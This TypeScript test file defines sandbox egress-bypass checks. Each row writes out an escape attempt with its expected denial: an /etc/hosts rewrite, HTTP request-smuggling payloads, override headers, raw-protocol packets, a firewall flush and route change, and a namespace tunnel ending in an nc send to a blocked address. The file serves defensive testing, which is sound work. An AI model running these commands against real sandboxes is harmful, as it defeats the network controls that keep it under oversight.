/**
 * Rows that only a lab can take: they change the sandbox, send what no real
 * host should get, or need a host that says what arrived.
 */
import {
  type Row,
  curl,
  each,
  quiet,
  spoken,
  unreached,
} from "../../../scripts/verify/bypass/row.ts";
import { gateway } from "../gateway-rules.ts";

/** An address of a host that no rule allows; it answers everybody. */
export const forbidden = "203.0.113.20";
const toForbidden = `firewall ${forbidden} tcp 443 `;

/** A packet of a protocol that has no ports. */
const rawPacket = (protocol: number) =>
  `python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, ${String(protocol)}); s.settimeout(2); s.sendto(b"x"*64, ("${forbidden}", 0)); s.recvfrom(99)' 2>&1 | tail -n 1`;

export const labRows: readonly Row[] = [
  {
    number: 7,
    attempt: "the same by /etc/hosts",
    command: `cp /etc/hosts /tmp/hosts; echo '${forbidden} api.anthropic.com' >>/etc/hosts; ${curl} https://api.anthropic.com/ ${quiet}; cat /tmp/hosts >/etc/hosts`,
    denied: unreached,
    logged: [toForbidden],
  },
  {
    number: 32,
    attempt: "a second request hidden in the first",
    command: each(
      [
        "POST /api/v1/echo HTTP/1.1\\r\\nHost: openrouter.ai\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\n",
        "POST /api/v1/echo HTTP/1.1\\r\\nHost: openrouter.ai\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\n",
        "POST /api/v1/echo HTTP/1.1\\nHost: openrouter.ai\\nContent-Length: 0\\n\\nGET /smuggled HTTP/1.1\\nHost: openrouter.ai\\n\\n",
        "POST /api/v1/echo HTTP/1.1\\r\\nHost: openrouter.ai\\r\\nContent-Length: 1\\r\\nContent-Length: 99\\r\\n\\r\\nxGET /smuggled HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\n",
      ].map((text) => spoken(gateway, "openrouter.ai", text)),
    ),
    // Each is one request at most, and what comes behind is judged by itself.
    denied: /^((200|400|403|501) )*$/,
    logged: ["proxy GET openrouter.ai/smuggled path_not_allowed"],
  },
  {
    number: 34,
    attempt: "headers that mean another path or method",
    command:
      "curl -sS -H 'X-Original-URL: /smuggled' -H 'X-Rewrite-URL: /smuggled' -H 'X-HTTP-Method-Override: DELETE' -H 'X-Forwarded-Host: example.org' https://openrouter.ai/api/v1/echo | grep -ciE 'smuggled|delete|example.org'",
    denied: /^0$/,
    logged: [],
    note: "the request is allowed and arrives without them",
  },
  {
    number: 35,
    attempt: "a redirect of an allowed host",
    command:
      "curl -sSL --max-time 30 'https://openrouter.ai/api/v1/echo?redirect=https://example.org/' 2>&1 | grep -o 'Could not resolve host: example.org'",
    denied: /Could not resolve/,
    logged: ["resolver example.org A name_not_allowed"],
  },
  {
    number: 40,
    attempt: "protocols without ports, and another's address",
    command: each([
      `ping -c 1 -W 2 ${forbidden} | grep -o '[0-9]* received'`,
      ...[47, 132, 50].map(rawPacket),
      `ip address add 10.9.9.9/32 dev eth0; ${curl} --interface 10.9.9.9 http://${gateway}/ca.pem; ip address del 10.9.9.9/32 dev eth0`,
    ]),
    denied:
      /^0 received$|[Tt]imed? ?out|No route|prohibited|Permission|refused|^curl: \((7|28)\)/,
    logged: [
      `firewall ${forbidden} icmp `,
      `firewall ${forbidden} protocol 47 `,
    ],
  },
  {
    number: 41,
    attempt: "root changes its own firewall and routes",
    command: `iptables-save >/tmp/rules; nft flush ruleset; ip route replace ${forbidden}/32 via 172.20.0.1; ${curl} https://${forbidden}/ ${quiet}; ip route del ${forbidden}/32; iptables-restore /tmp/rules`,
    denied: unreached,
    logged: [toForbidden],
  },
  {
    number: 42,
    attempt: "a network inside the sandbox, a tunnel out of it",
    command: [
      "ip netns add inner; ip link add v0 type veth peer name v1 netns inner; ip address add 10.77.0.1/24 dev v0; ip link set v0 up",
      "ip -n inner address add 10.77.0.2/24 dev v1; ip -n inner link set v1 up; ip -n inner route add default via 10.77.0.1",
      "sysctl -qw net.ipv4.ip_forward=1; nft 'table ip inner { chain c { type nat hook postrouting priority 100; ip saddr 10.77.0.0/24 masquerade; }; }'",
      `ip netns exec inner ${curl} https://${forbidden}/ ${quiet}`,
      "nft delete table ip inner; ip netns del inner",
      "echo x | nc -u -w 1 203.0.113.20 51820; echo refused",
    ].join("\n"),
    denied: unreached,
    logged: [toForbidden, `firewall ${forbidden} udp 51820 `],
  },
];
